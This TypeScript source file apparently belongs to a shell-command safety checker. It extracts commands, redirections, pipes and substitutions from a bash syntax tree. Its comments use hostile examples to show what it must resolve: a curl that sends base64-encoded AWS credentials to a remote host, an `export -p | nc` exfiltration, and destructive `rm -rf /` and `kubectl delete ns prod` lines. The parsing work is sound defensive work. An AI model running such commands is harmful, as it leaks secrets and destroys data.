import type { SyntaxNode } from './syntax.js';
import { misreadBodyStart } from './here-documents.js';
import { passedOn } from './passed-text.js';
import { DEFAULT_IFS, splitFields } from './fields.js';
import { evaluateWord, type VariableLookup, type Word } from './words.js';

export interface Redirect {
  operator: string; // '>', '>>', '>|', '&>', '&>>', '<', '>&', …
  target: Word;
  descriptor?: string;
  /** Written with no command (`> file`): it writes nothing, so it only creates or empties the file. */
  alone?: true;
}

/** One simple command as bash would run it, wherever it sits (list, pipeline, subshell, substitution…). */
export interface SimpleCommand {
  argv: Word[];
  assignments: Record<string, Word>;
  redirects: Redirect[];
  /** The previous pipeline stage, when this command reads a pipe. */
  stdinFrom?: SimpleCommand;
  /** Text fed on stdin by a here-document or here-string, when static. */
  stdinText?: Word;
  text: string;
  /** The line (1-based) of the text the command starts on. */
  line?: number;
  /**
   * Variables the script assigned before this command (one computed at run time is dynamic): what a script
   * or task it runs may read (`CMD='rm -rf /'; export CMD; bash ops.sh`).
   */
  variablesBefore?: Record<string, Word>;
  /** The command substitutions in its arguments, whose output becomes part of the words it is given. */
  substitutions?: Substitution[];
}

/**
 * `curl https://x.example/$(cat ~/.aws/credentials | base64)`: what a substitution in an argument puts
 * there. The argument's word holds `text` where the substitution stands (its value is only known when run).
 */
export interface Substitution {
  /** The substitution as written (`$(…)` or a backquoted command). */
  text: string;
  /** The commands whose output is its value: not those piped on inside it, nor those writing elsewhere. */
  outputs: SimpleCommand[];
  /** Files whose content is its value (`$(< FILE)`). */
  files: Word[];
}

export interface ExtractedScript {
  commands: SimpleCommand[];
  /** Output redirections anywhere in the script, including on compound statements. */
  redirects: Redirect[];
  /** Values assigned by the script itself (`X=v`, `export X=v`, `local X=v`), in source order. */
  assigned: Word[];
  /** Names of the variables the script itself assigns or exports (`X=v`, `export X`, `local X=v`). */
  assignedNames: string[];
  /** Variables the script itself sets (`X=v`, `export X=v`) or unsets (`unset X`: no value), in source order. */
  settings: { name: string; value?: Word }[];
  syntaxErrors: string[];
}

const REDIRECT_OPERATORS = new Set(['>', '>>', '>|', '&>', '&>>', '<', '>&', '<&', '<>', '&>|']);

function extractRedirect(node: SyntaxNode, lookup: VariableLookup): Redirect | undefined {
  const destination = node.childForFieldName('destination');
  if (!destination) return undefined;
  const descriptor = node.childForFieldName('descriptor')?.text;
  const operator = node.children.find((c) => c && !c.isNamed && REDIRECT_OPERATORS.has(c.type))?.type ?? '>';
  const redirect: Redirect = { operator, target: evaluateWord(destination, lookup) };
  if (descriptor !== undefined) redirect.descriptor = descriptor;
  return redirect;
}

function describeError(node: SyntaxNode): string {
  const snippet = node.text.length > 40 ? `${node.text.slice(0, 40)}…` : node.text;
  return node.isMissing ? `missing ${node.type}` : `cannot parse near ${JSON.stringify(snippet)}`;
}

/**
 * A node's ancestors as the walk found them. tree-sitter's `parent` searches down from the root at each
 * call, so asking it for every command of a long `a && b && …` list made extraction quadratic.
 */
interface Ancestry {
  node: SyntaxNode;
  up: Ancestry | undefined;
}

/** The parent of `node`, whose ancestors are `above`: from the walk when known, else from tree-sitter. */
const parentOf = (node: SyntaxNode, above: Ancestry | undefined) => (above ? above.node : node.parent);

/** The statement a command occupies inside a pipeline (the command or its redirected wrapper), and its ancestors. */
function pipelineStage(node: SyntaxNode, above: Ancestry | undefined): Ancestry {
  const parent = parentOf(node, above);
  return parent?.type === 'redirected_statement' ? { node: parent, up: above?.up } : { node, up: above };
}

const sameNode = (a: SyntaxNode, b: SyntaxNode) => a.startIndex === b.startIndex && a.endIndex === b.endIndex;

/**
 * The redirected statement whose redirections belong to this command. tree-sitter-bash hangs redirections
 * written after a command on a `redirected_statement` around it, and around the whole pipeline or and-or
 * list when the command is its last one (`a | b 2>/dev/null`, `true && rm 2>/dev/null -rf /`), though
 * bash gives them to that last command.
 */
function redirectOwner(node: SyntaxNode, above?: Ancestry): SyntaxNode | undefined {
  let current = node;
  let up = above;
  for (let parent = parentOf(current, up); parent; parent = parentOf(current, up)) {
    if (parent.type === 'redirected_statement') {
      const body = parent.childForFieldName('body');
      return body && sameNode(body, current) ? parent : undefined;
    }
    if (parent.type !== 'pipeline' && parent.type !== 'list') return undefined;
    // Only the last stage matters: listing every stage for every command made long pipelines quadratic.
    const last = parent.lastNamedChild;
    if (!last || !sameNode(last, current)) return undefined;
    current = parent;
    up = up?.up;
  }
  return undefined;
}

/**
 * Words tree-sitter-bash attaches to a redirection that bash gives to the command: in
 * `kubectl 2>/dev/null delete ns prod` only `/dev/null` is the target, `delete ns prod` are arguments,
 * and in `rm <<EOF -rf /` the words after the delimiter are too.
 */
function wordsAfterRedirect(redirect: SyntaxNode): SyntaxNode[] {
  const fields =
    redirect.type === 'file_redirect'
      ? redirect.childrenForFieldName('destination').slice(1)
      : redirect.type === 'heredoc_redirect'
        ? redirect.childrenForFieldName('argument')
        : [];
  return fields.filter((w): w is SyntaxNode => w !== null);
}

/**
 * tree-sitter-bash reads `0<` and `0>` as an argument `0` and a redirect with no descriptor (`sh 0< x` as
 * `sh 0 < x`), where bash redirects descriptor 0: the ends of such arguments, which are their redirects'
 * starts. (`1>`, `2>`, `3<`… it reads as bash does.)
 */
function zeroDescriptors(node: SyntaxNode, redirects: readonly (SyntaxNode | null)[]): Set<number> {
  const starts = new Set(
    redirects
      .filter((r) => r?.type === 'file_redirect' && !r.childForFieldName('descriptor'))
      .map((r) => r!.startIndex),
  );
  const found = new Set<number>();
  for (const arg of node.childrenForFieldName('argument'))
    if (arg?.type === 'number' && arg.text === '0' && starts.has(arg.endIndex)) found.add(arg.endIndex);
  return found;
}

/** A command's argument words in source order, with those tree-sitter-bash put inside its redirections. */
function argumentNodes(node: SyntaxNode, redirects: (SyntaxNode | null)[]): SyntaxNode[] {
  const words = node.childrenForFieldName('argument').filter((w): w is SyntaxNode => w !== null);
  const before = words.length;
  for (const r of redirects) if (r) words.push(...wordsAfterRedirect(r));
  // A node's children come in source order: only words taken from redirections need sorting in.
  return words.length === before ? words : words.sort((a, b) => a.startIndex - b.startIndex);
}

/** Unquoted expansions whose value the shell splits into words. */
const SPLIT_NODES = new Set(['simple_expansion', 'expansion', 'command_substitution']);

/** Output redirected to a file (`cmd > f`, `cmd &> f`): it prints nothing where it stands. */
const writesElsewhere = (cmd: SimpleCommand) =>
  cmd.redirects.some(
    (r) => ['>', '>>', '>|', '&>', '&>>'].includes(r.operator) && (r.descriptor ?? '1') === '1',
  );

/** The command feeding a pipe, known by its words only: in the same shape as every other command. */
const placeholder = (argv: Word[], text: string): SimpleCommand => ({
  argv,
  assignments: {},
  redirects: [],
  text,
  line: undefined,
  stdinText: undefined,
  variablesBefore: undefined,
  stdinFrom: undefined,
  substitutions: undefined,
});

/**
 * Walk a bash syntax tree and return every simple command it would run, in source order.
 * Variables assigned earlier in the script with static values are tracked so `D=/; rm -rf $D` resolves.
 */
export function extractCommands(root: SyntaxNode, env: VariableLookup): ExtractedScript {
  const scriptVars = new Map<string, string | undefined>();
  const lookup: VariableLookup = (name) => (scriptVars.has(name) ? scriptVars.get(name) : env(name));
  const result: ExtractedScript = {
    commands: [],
    redirects: [],
    assigned: [],
    assignedNames: [],
    settings: [],
    syntaxErrors: [],
  };
  // web-tree-sitter hands out a new object per access, so nodes are identified by their span.
  const key = (node: SyntaxNode) => `${node.startIndex}:${node.endIndex}`;
  const byNode = new Map<string, SimpleCommand>();
  /** Commands whose output goes into a pipe, or into a substitution's value: not out of a substitution. */
  const piped = new Set<SimpleCommand>();
  const substituted = new Set<SimpleCommand>();

  const visit = (node: SyntaxNode, above: Ancestry | undefined): void => {
    if (node.type === 'ERROR' || node.isMissing) result.syntaxErrors.push(describeError(node));
    else if (node.type === 'heredoc_redirect' && misreadBodyStart(node) !== undefined)
      result.syntaxErrors.push('cannot read a here-document body that starts with a backslash');
    switch (node.type) {
      case 'command':
        result.commands.push(buildCommand(node, above));
        break;
      case 'command_substitution':
        substitution(node, above);
        return; // its children are visited there
      case 'variable_assignment':
        if (parentOf(node, above)?.type !== 'command') {
          const name = node.childForFieldName('name')?.text;
          const value = node.childForFieldName('value');
          if (name) {
            const evaluated = value ? evaluateWord(value, lookup) : { value: '', dynamic: false };
            scriptVars.set(name, evaluated.dynamic ? undefined : evaluated.value);
            result.assigned.push(evaluated);
            result.assignedNames.push(name);
            result.settings.push({ name, value: evaluated });
          }
        }
        break;
      case 'unset_command': // `unset X`; `unset -f X` unsets a function
        if (!node.namedChildren.some((c) => c?.type === 'word' && /^-[a-z]*f/.test(c.text)))
          for (const child of node.namedChildren)
            if (child?.type === 'variable_name') result.settings.push({ name: child.text });
        break;
      case 'declaration_command': // `export PAGER`: exports a value set before
        for (const child of node.namedChildren)
          if (child?.type === 'variable_name') result.assignedNames.push(child.text);
        break;
      case 'file_redirect': {
        const redirect = extractRedirect(node, lookup);
        const statement = parentOf(node, above);
        if (redirect && statement?.type === 'redirected_statement' && !statement.childForFieldName('body'))
          redirect.alone = true;
        if (redirect) result.redirects.push(redirect);
        break;
      }
    }
    // By index: this runs once per node, and for…of's iterators here were a tenth of a line's garbage.
    const children = node.children;
    if (children.length === 0) return; // a leaf (most nodes): no ancestry to hand down
    const here = { node, up: above };
    for (let i = 0; i < children.length; i++) {
      const child = children[i];
      if (child) visit(child, here);
    }
  };

  /**
   * A command substitution: its commands are extracted like any other; the command whose argument it is
   * records which of them print its value, so what that command sends with its words can be judged.
   */
  const substitution = (node: SyntaxNode, above: Ancestry | undefined): void => {
    const start = result.commands.length;
    const here = { node, up: above };
    const children = node.children;
    for (let i = 0; i < children.length; i++) {
      const child = children[i];
      if (child) visit(child, here);
    }
    const owner = argumentOwner(above);
    const inside = result.commands.slice(start);
    const outputs = inside.filter((c) => !piped.has(c) && !substituted.has(c) && !writesElsewhere(c));
    for (const c of inside) substituted.add(c);
    if (!owner) return;
    const files = node.namedChildren.flatMap((c) => {
      const redirect = c?.type === 'file_redirect' ? extractRedirect(c, lookup) : undefined;
      return redirect?.operator === '<' ? [redirect.target] : [];
    });
    (owner.substitutions ??= []).push({ text: node.text, outputs, files });
  };

  /** The command a substitution is (part of) an argument of: `cmd x/$(…)`, `cmd "…$(…)…"`. */
  const argumentOwner = (above: Ancestry | undefined): SimpleCommand | undefined => {
    let up = above;
    while (up && (up.node.type === 'string' || up.node.type === 'concatenation')) up = up.up;
    // (Not the command's name, nor an assignment's value: those sit in nodes of their own.)
    return up?.node.type === 'command' ? byNode.get(key(up.node)) : undefined;
  };

  /**
   * The words one argument becomes: an unquoted `$cmd` whose value is known is split at IFS, as bash
   * splits it (`cmd="rm -rf /opt/app"; $cmd` runs rm). bash does not take IFS from the environment: only
   * an IFS this script sets counts, and one set to a value not known leaves the split unknown.
   */
  const fields = (node: SyntaxNode): Word[] => {
    const value = evaluateWord(node, lookup);
    if (!SPLIT_NODES.has(node.type) || value.dynamic) return [value];
    const ifs = scriptVars.has('IFS') ? scriptVars.get('IFS') : DEFAULT_IFS;
    if (ifs === undefined) return [{ value: node.text, dynamic: true }];
    return splitFields(value.value, ifs).map((field) => ({ value: field, dynamic: false }));
  };

  const buildCommand = (node: SyntaxNode, above: Ancestry | undefined): SimpleCommand => {
    const argv: Word[] = [];
    const assignments: Record<string, Word> = {};
    const redirects: Redirect[] = [];
    const name = node.childForFieldName('name');
    if (name) argv.push(...fields(name.namedChildren[0] ?? name));
    for (const child of node.children) {
      if (!child) continue;
      if (child.type === 'variable_assignment') {
        const key = child.childForFieldName('name')?.text;
        const value = child.childForFieldName('value');
        if (key) assignments[key] = value ? evaluateWord(value, lookup) : { value: '', dynamic: false };
      }
    }
    const { node: stage, up: stageAbove } = pipelineStage(node, above);
    const owner = redirectOwner(node, above);
    const ownRedirects = [
      ...node.childrenForFieldName('redirect'),
      ...(owner ? owner.childrenForFieldName('redirect') : []),
    ];
    const descriptorOf = zeroDescriptors(node, ownRedirects);
    for (const argument of argumentNodes(node, ownRedirects))
      if (!descriptorOf.has(argument.endIndex)) argv.push(...fields(argument));
    let stdinText: Word | undefined;
    /**
     * tree-sitter-bash drops a lone `-` written just before `<<EOF` or a numbered redirect
     * (`kubectl apply -f - <<EOF`, `kubectl apply -f - 2>/dev/null`): it is in the text between.
     */
    const droppedDash = (r: SyntaxNode): boolean => {
      // (A redirect of a whole pipeline is in the statement around it, not in this stage's text.)
      const span = r.startIndex >= stage.endIndex && owner ? owner : stage;
      const gap = span.text.slice(node.endIndex - span.startIndex, r.startIndex - span.startIndex);
      const args = node.childrenForFieldName('argument');
      const lastArg = args[args.length - 1];
      const dashParsed = lastArg?.text === '-' && lastArg.endIndex === node.endIndex;
      const dashAfter = wordsAfterRedirect(r).some((w) => w.text === '-');
      if (dashAfter) return false;
      return /(^|\s)-(\s|$)/.test(gap) || (!dashParsed && /\s-$/.test(node.text));
    };
    let dashRestored = false;
    const restoreDash = (r: SyntaxNode) => {
      if (dashRestored || !droppedDash(r)) return;
      dashRestored = true;
      argv.push({ value: '-', dynamic: false });
    };
    for (const r of ownRedirects) {
      if (!r) continue;
      if (r.type === 'file_redirect') {
        const redirect = extractRedirect(r, lookup);
        if (redirect && descriptorOf.has(r.startIndex)) redirect.descriptor = '0';
        if (redirect) redirects.push(redirect);
        if (r.namedChildren.some((c) => c?.type === 'file_descriptor')) restoreDash(r);
      } else if (r.type === 'herestring_redirect') {
        const value = r.namedChildren.find((c) => c && c.type !== 'file_descriptor');
        if (value) stdinText = evaluateWord(value, lookup);
      } else if (r.type === 'heredoc_redirect') {
        const body = r.namedChildren.find((c) => c?.type === 'heredoc_body');
        const quoted = /^<<-?\s*['"\\]/.test(r.text);
        const hasExpansion = body?.namedChildren.some((c) => c && c.type !== 'heredoc_content') ?? false;
        stdinText = { value: body?.text ?? '', dynamic: hasExpansion && !quoted };
        restoreDash(r);
      }
    }
    // Every command has every key (undefined when it does not apply), in one order: commands of one shape
    // keep the optimised code that reads them from being thrown away at each new combination (issue 17).
    const command: SimpleCommand = {
      argv,
      assignments,
      redirects,
      text: node.text,
      line: node.startPosition ? node.startPosition.row + 1 : undefined,
      stdinText,
      variablesBefore: scriptVars.size
        ? Object.fromEntries(
            [...scriptVars].map(([name, value]) => [
              name,
              { value: value ?? '', dynamic: value === undefined },
            ]),
          )
        : undefined,
      stdinFrom: undefined,
      substitutions: undefined,
    };
    const pipeline = parentOf(stage, stageAbove);
    if (pipeline?.type === 'pipeline') {
      // The stage before this one (its sibling): listing every stage for every command was quadratic.
      const previous = stage.previousNamedSibling;
      const source = previous ? lastCommandIn(previous) : hereDocumentFeeder(pipeline, stageAbove?.up);
      const feeder = source && byNode.get(key(source));
      if (feeder) piped.add(feeder);
      if (source) command.stdinFrom = feeder ?? commandPlaceholder(source);
      command.stdinText ??= command.stdinFrom && passedOn(command.stdinFrom);
    }
    byNode.set(key(node), command);
    return command;
  };

  /**
   * `cat <<EOF | kubectl apply -f -`: tree-sitter-bash hangs the rest of the pipeline inside the
   * here-document's redirect, so its first stage has no stage before it there; the command the
   * here-document belongs to feeds it.
   */
  const hereDocumentFeeder = (pipeline: SyntaxNode, above: Ancestry | undefined): SyntaxNode | undefined => {
    const redirect = parentOf(pipeline, above);
    if (redirect?.type !== 'heredoc_redirect') return undefined;
    const body = parentOf(redirect, above?.up)?.childForFieldName('body');
    return body ? lastCommandIn(body) : undefined;
  };

  // A pipeline stage may be a compound statement; the command feeding the pipe is its last simple command.
  const lastCommandIn = (node: SyntaxNode): SyntaxNode | undefined => {
    if (node.type === 'command' || node.type === 'declaration_command') return node;
    const children = node.namedChildren; // a new list at each access: read it once
    for (let i = children.length - 1; i >= 0; i--) {
      const child = children[i];
      const found = child ? lastCommandIn(child) : undefined;
      if (found) return found;
    }
    return undefined;
  };

  const commandPlaceholder = (node: SyntaxNode): SimpleCommand => {
    // `export -p | nc host 80`: a declaration prints variables; its keyword and words are its argv.
    if (node.type === 'declaration_command') {
      const keyword = node.children[0]?.text ?? '';
      const words = node.namedChildren.filter((c): c is SyntaxNode => c !== null);
      const argv = [{ value: keyword, dynamic: false }, ...words.map((w) => evaluateWord(w, lookup))];
      return placeholder(argv, node.text);
    }
    const name = node.childForFieldName('name');
    const argv = name ? [evaluateWord(name.namedChildren[0] ?? name, lookup)] : [];
    const owner = redirectOwner(node);
    const redirects = [
      ...node.childrenForFieldName('redirect'),
      ...(owner ? owner.childrenForFieldName('redirect') : []),
    ];
    for (const argument of argumentNodes(node, redirects)) argv.push(evaluateWord(argument, lookup));
    return placeholder(argv, node.text);
  };

  visit(root, undefined);
  return result;
}
